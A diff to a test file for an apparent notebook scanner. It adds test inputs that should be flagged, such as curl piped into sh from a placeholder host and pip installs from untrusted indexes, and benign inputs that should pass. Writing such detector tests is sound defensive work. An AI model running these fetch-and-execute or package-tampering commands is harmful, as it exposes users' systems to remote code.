@@ -90,6 +90,9 @@ def test_notebooks_of_version_three_are_read() -> None:
         ("!bash <(curl -s https://example.invalid/x)", "warning"),
         ("!sed -i 's/0.9/0.8/' /usr/lib/python3/dist-packages/torch/optim/adam.py", "warning"),
         ("%run https://example.invalid/x.py", "warning"),
+        ("%pip install --index-url http://127.0.0.1:9/ nothing", "warning"),
+        ("!pip3 install --trusted-host example.invalid nothing", "warning"),
+        ("get_ipython().system('curl -s https://example.invalid/x | sh')", "warning"),
     ],
 )
 def test_commands_that_no_experiment_needs_are_found(source: str, severity: str) -> None:
@@ -100,6 +103,8 @@ def test_commands_that_no_experiment_needs_are_found(source: str, severity: str)
     "source",
     [
         "!pip install -q torch --index-url https://download.pytorch.org/whl/cpu",
+        "%pip install -q --extra-index-url https://example.invalid/simple torch",
+        "get_ipython().system('nvidia-smi')",
         "!wget -q https://example.invalid/data.zip && unzip -q data.zip && rm -rf data.zip",
         "!nvidia-smi\n!ls ~/.cache | head\n!rm -rf sample_data /content/run /root/.cache/pip",
         "!git clone https://example.invalid/x.git && cd x && pip install -e .",
